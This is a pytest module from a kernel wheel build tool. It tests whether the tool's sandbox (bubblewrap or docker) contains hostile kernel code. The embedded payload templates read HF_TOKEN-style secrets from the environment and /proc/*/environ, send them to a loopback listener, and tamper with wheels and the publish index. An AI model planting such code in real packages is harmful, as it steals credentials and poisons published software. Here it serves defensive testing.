"""A hostile kernel's own code, where the factory runs it on this machine (the local runner)
and in builder containers (the docker runner): its `__init__.py` (run by the import gate and by
every test that imports it), its pytest tests and a script test read HF_TOKEN from their
environment and from every /proc/*/environ they can see, connect to a listener this test runs,
write beside the build folder, into the repo and into the factory's cache, append to every
wheel under --out and plant a wheel with a publish-journal note. Built with the factory holding
secrets in its environment, the cell is built, tested and published with exactly the bytes it
was packaged with: the secrets are in no file, log, page or wheel, the listener is never
reached, nothing is written outside. In containers the kernel's code itself fails (its cell,
or its test) should it see a secret or reach the listener: what it leaves there goes with its
container."""

from __future__ import annotations

import hashlib
import json
import re
import shutil
import socket
import subprocess
import threading
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest

from ..support.cli import SECRETS
from ..support.factory import EXAMPLE, REPO, Result, cache_env, one_cell_matrix, run_factory
from ..support.system import debian_package

pytestmark = [pytest.mark.slow, pytest.mark.network]

PAYLOAD = '''
def _hostile(where):
    import json as _json, os as _os, pathlib as _pathlib, socket as _socket
    said = []
    found = {{name: _os.environ[name] for name in {names!r} if name in _os.environ}}
    for _environ in _pathlib.Path("/proc").glob("*/environ"):
        try:
            _entries = _environ.read_bytes().decode(errors="replace").split("\\0")
        except OSError:
            continue
        found |= dict(entry.split("=", 1) for entry in _entries
                      if "=" in entry and entry.split("=", 1)[0] in {names!r})
    said.append(f"{{len(found)}} secret(s) seen")
    try:
        with _socket.create_connection(("127.0.0.1", {port}), timeout=3) as _out:
            _out.sendall(repr(found).encode())
        said.append("reached the listener")
    except OSError as _exc:
        said.append(f"no connection ({{_exc.strerror}})")
    _planted = _pathlib.Path({out!r}) / "files" / "evil-6.6.6-py3-none-any.whl"
    _note = _pathlib.Path({out!r}) / ".factory" / "publishing" / f"999999-{{_planted.name}}.json"
    _wheels = list(_pathlib.Path({out!r}).rglob("*.whl"))
    said.append(f"{{len(_wheels)}} wheel(s) under --out")
    for _target in [*{targets!r}, *_wheels, _planted, _note]:
        try:
            _pathlib.Path(_target).parent.mkdir(parents=True, exist_ok=True)
            with open(_target, "ab") as _handle:
                _handle.write(b"hostile-was-here" + repr(found).encode())
            said.append(f"wrote {{_target}}")
        except OSError as _exc:
            said.append(f"blocked {{_target}}: {{_exc.strerror}}")
    _mark = _pathlib.Path(_os.environ.get("HOME", "/nonexistent")) / f"hostile-{{where}}.txt"
    _mark.write_text("\\n".join(said) + "\\n")
    if {strict} and (found or "reached the listener" in said):
        raise RuntimeError(f"hostile-gray's {{where}} got out: " + "; ".join(said))


_hostile("import")
'''

SCRIPT_TEST = '''
import hostile_gray

if __name__ == "__main__":
    hostile_gray._hostile("script")
'''

PYTEST_TEST = '''
import hostile_gray


def test_hostile():
    hostile_gray._hostile("pytest")
'''

# what each run of the kernel's code leaves in its HOME, the one folder it can write
MARKS = {"import gate": "load/home/hostile-import.txt",
         "pytest's import": "test/home/hostile-import.txt",
         "a pytest test": "test/home/hostile-pytest.txt",
         "a script test": "test/home/hostile-script.txt"}


@pytest.fixture(scope="module")
def listener() -> Iterator[tuple[int, list[bytes]]]:
    """A server on the loopback that keeps what each connection sends."""
    received: list[bytes] = []
    server = socket.create_server(("127.0.0.1", 0))
    server.settimeout(0.5)
    stop = threading.Event()

    def serve() -> None:
        while not stop.is_set():
            try:
                connection, _ = server.accept()
            except TimeoutError:
                continue
            with connection:
                connection.settimeout(5)
                received.append(connection.recv(65536) or b"connected")

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    yield server.getsockname()[1], received
    stop.set()
    thread.join()
    server.close()


def hostile_build(folder: Path, factory_cache: Path, port: int, runner: str,
                  top: str = "") -> tuple[Path, list[str], Result]:
    """The example, renamed hostile-gray (a cell folder of its own), with the hostile code in
    its package and tests, built, tested and published with --test by `runner`, the
    factory's environment holding SECRETS: its output folder, the targets it writes to and
    what the build said."""
    kernel = shutil.copytree(EXAMPLE, folder / "hostile-gray")
    (kernel / "torch-ext" / "img2gray").rename(kernel / "torch-ext" / "hostile_gray")
    toml = kernel / "build.toml"
    toml.write_text(toml.read_text().replace('name = "img2gray"', 'name = "hostile-gray"', 1))
    tests = kernel / "tests" / "test_img2gray.py"
    tests.write_text(tests.read_text().replace("import img2gray\n",
                                               "import hostile_gray as img2gray\n"))
    out = folder / "out"
    build_root = Path(cache_env(factory_cache)["KERNEL_WHEEL_FACTORY_BUILD_ROOT"])
    targets = [str(build_root / "hostile-was-here"), str(REPO / ".kernel-wheel-factory-hostile"),
               str(factory_cache / "hostile-was-here"), str(folder / "beside-the-out-folder")]
    init = kernel / "torch-ext" / "hostile_gray" / "__init__.py"
    init.write_text(init.read_text() + PAYLOAD.format(
        names=sorted(SECRETS), port=port, targets=targets, out=str(out),
        strict=runner == "docker"))
    (kernel / "tests" / "test_hostile_pytest.py").write_text(PYTEST_TEST)
    (kernel / "tests" / "test_hostile_script.py").write_text(SCRIPT_TEST)
    matrix = one_cell_matrix(folder, kernel, top=top)
    result = run_factory("build", matrix, "--out", out, "--test", "--runner", runner,
                         env={**cache_env(factory_cache), **SECRETS})
    return out, targets, result


@pytest.fixture(scope="module")
def hostile_native(tmp_path_factory: pytest.TempPathFactory, factory_cache: Path,
                   listener: tuple[int, list[bytes]]) -> tuple[Path, list[str], Path, Result]:
    """hostile_build on this machine, and its cell's build folder."""
    debian_package("bubblewrap", "bwrap")
    out, targets, result = hostile_build(tmp_path_factory.mktemp("hostile-native"),
                                         factory_cache, listener[0], "local")
    build_root = Path(cache_env(factory_cache)["KERNEL_WHEEL_FACTORY_BUILD_ROOT"])
    return out, targets, build_root / "hostile-gray-cu130torch211-x86_64", result


def test_the_hostile_kernel_is_built_tested_and_published_confined(
        hostile_native: tuple[Path, list[str], Path, Result]) -> None:
    out, targets, cell, result = hostile_native
    assert result.exit == 0, result.stdout + result.stderr
    assert "kernel tests: 1 proven" in result.stdout, result.stdout
    log = (out / "logs" / "hostile-gray-cu130torch211-x86_64.log").read_text()
    assert "the kernel's code runs confined by bubblewrap" in log
    # the kernel's code ran in the import gate, in pytest and as a script, and was held
    for where, mark in MARKS.items():
        said = (cell / mark).read_text().splitlines()
        assert said[0] == "0 secret(s) seen" and said[2] == "1 wheel(s) under --out", said
        # the sandbox's own network: its loopback has no listener
        assert said[1].startswith("no connection ("), (where, said)
        assert not [line for line in said if line.startswith("wrote")], (where, said)
        assert len([line for line in said if line.endswith("Read-only file system")]) == \
            len(targets) + 3, (where, said)


def test_nothing_the_hostile_kernel_did_reaches_the_index_or_outside(
        hostile_native: tuple[Path, list[str], Path, Result],
        listener: tuple[int, list[bytes]]) -> None:
    out, targets, _, result = hostile_native
    assert listener[1] == []
    for target in targets:
        assert not Path(target).exists(), target
    published_and_intact(out, result)


@pytest.fixture(scope="module")
def hostile_in_docker(tmp_path_factory: pytest.TempPathFactory, factory_cache: Path,
                      listener: tuple[int, list[bytes]],
                      bullseye_base: str) -> tuple[Path, list[str], Result]:
    """hostile_build by the docker runner, on the offline base."""
    return hostile_build(tmp_path_factory.mktemp("hostile-docker"), factory_cache, listener[0],
                         "docker", top=f"docker:\n  base: {bullseye_base}")


@pytest.mark.docker
@pytest.mark.root
def test_in_containers_the_hostile_kernel_gets_nothing_out(
        hostile_in_docker: tuple[Path, list[str], Result],
        listener: tuple[int, list[bytes]]) -> None:
    """Its import gate, its tests (the pytest test and the script, both failing should the
    kernel see a secret or reach the listener) ran each in a container of its own, which is
    gone; the wheel published is the one packaged."""
    out, targets, result = hostile_in_docker
    assert result.exit == 0, result.stdout + result.stderr
    assert "kernel tests: 1 proven" in result.stdout, result.stdout
    log = (out / "logs" / "hostile-gray-cu130torch211-x86_64.log").read_text()
    started = re.findall(r"the kernel's code runs in a container of its own, (\S+):", log)
    assert [name.rsplit("-", 2)[1] for name in started] == ["load", "test"], started
    # proven: the pytest test and the script ran, and neither saw a secret or the listener
    assert re.search(r"\$ python \S*test_hostile_script\.py", log), log[-3000:]
    existing = subprocess.run(["docker", "ps", "--all", "--format", "{{.Names}}"],
                              capture_output=True, text=True, check=True).stdout.split()
    assert not set(started) & set(existing)
    assert listener[1] == []
    for target in targets:
        assert not Path(target).exists(), target
    published_and_intact(out, result)


def published_and_intact(out: Path, result: Result) -> None:
    """Only the kernel's wheel is in the index, with the bytes the index records, none of the
    hostile code's writes in it, and no secret in anything under `out` or in what the build
    said."""
    wheels = sorted((out / "files").glob("*.whl"))
    assert [wheel.name.split("-")[0] for wheel in wheels] == ["hostile_gray"]
    assert not list(out.rglob("evil-*")) and not list(out.rglob("999999-*"))
    (wheel,) = wheels
    data = wheel.read_bytes()
    assert b"hostile-was-here" not in data
    with zipfile.ZipFile(wheel) as archive:
        assert archive.testzip() is None
        unpacked = b"".join(archive.read(name) for name in archive.namelist())
    digest = hashlib.sha256(data).hexdigest()
    page = next(out.rglob("simple/hostile-gray/index.html")).read_text()
    assert f"sha256={digest}" in page
    published = b"".join(path.read_bytes() for path in out.rglob("*") if path.is_file())
    for value in SECRETS.values():
        assert value not in result.stdout + result.stderr
        assert value.encode() not in published + unpacked


def test_a_build_with_unconfined_says_so_in_its_summary_and_the_cells_record(
        tmp_path: Path, factory_cache: Path) -> None:
    """The one way to run the kernel's code on this machine outside the sandbox is said at
    the start, in the log, in the summary and in the record the cell keeps."""
    out = tmp_path / "out"
    result = run_factory("build", one_cell_matrix(tmp_path, EXAMPLE), "--out", out,
                         "--unconfined", env=cache_env(factory_cache))
    assert result.exit == 0, result.stdout + result.stderr
    assert "--unconfined: the code of others that runs on this machine" in result.stdout
    assert "--unconfined: the kernel's code of 1 cell(s) ran outside the sandbox" in \
        result.stdout, result.stdout
    log = (out / "logs" / "img2gray-cu130torch211-x86_64.log").read_text()
    assert "unconfined (--unconfined): the kernel's code runs with this user's rights" in log
    (record,) = (out / ".factory" / "cells").glob("img2gray-*.json")
    assert json.loads(record.read_text())["unconfined"] is True


HOSTILE_MODULE = '''
import os as _os, pathlib as _pathlib, socket as _socket
_seen = [_name for _name in {names!r} if _name in _os.environ]
for _environ in _pathlib.Path("/proc").glob("*/environ"):
    try:
        _data = _environ.read_bytes()
    except OSError:
        continue
    _seen += [_name for _name in {names!r} if (_name + "=").encode() in _data]
try:
    _socket.create_connection(("127.0.0.1", {port}), timeout=3).close()
    _seen.append("the listener")
except OSError:
    pass
for _target in {targets!r}:
    try:
        _pathlib.Path(_target).write_text("hostile-was-here")
        _seen.append(_target)
    except OSError:
        pass
print("hostile-tile:", len(_seen), "thing(s) got out")
if _seen:
    raise SystemExit("hostile-tile got out: " + ", ".join(_seen))
'''


@pytest.mark.parametrize("runner", ["local", pytest.param(
    "docker", marks=[pytest.mark.docker, pytest.mark.root])])
def test_a_cutile_projects_module_run_by_the_export_gets_nothing_out(
        runner: str, tmp_path: Path, factory_cache: Path, listener: tuple[int, list[bytes]],
        request: pytest.FixtureRequest) -> None:
    """The module of a cuTile project that cuTile's export imports to compile its kernels
    (and the import gate imports again) reads every secret it can find, calls the listener
    and writes beside the build folder, failing the build should any of it work: the build
    passes, on this machine and in builder containers, and nothing reached the listener or
    the disk."""
    if runner == "local":
        debian_package("bubblewrap", "bwrap")
        top = ""
    else:
        top = f"docker:\n  base: {request.getfixturevalue('bullseye_base')}"
    project = shutil.copytree(REPO / "examples" / "tile-add", tmp_path / "tile-add")
    build_root = Path(cache_env(factory_cache)["KERNEL_WHEEL_FACTORY_BUILD_ROOT"])
    targets = [str(build_root / "hostile-was-here"), str(factory_cache / "hostile-was-here"),
               str(tmp_path / "beside-the-out-folder")]
    kernels = project / "tile_add" / "kernels.py"
    kernels.write_text(HOSTILE_MODULE.format(names=sorted(SECRETS), port=listener[0],
                                             targets=targets) + kernels.read_text())
    matrix = one_cell_matrix(tmp_path, project, top=top)
    out = tmp_path / "out"
    result = run_factory("build", matrix, "--out", out, "--runner", runner,
                         env={**cache_env(factory_cache), **SECRETS})
    assert result.exit == 0, result.stdout + result.stderr
    log = (out / "logs" / "tile-add-cu130torch211-x86_64.log").read_text()
    assert "hostile-tile: 0 thing(s) got out" in log, log[-3000:]
    assert listener[1] == []
    assert not [target for target in targets if Path(target).exists()]
    for value in SECRETS.values():
        assert value not in result.stdout + result.stderr + log
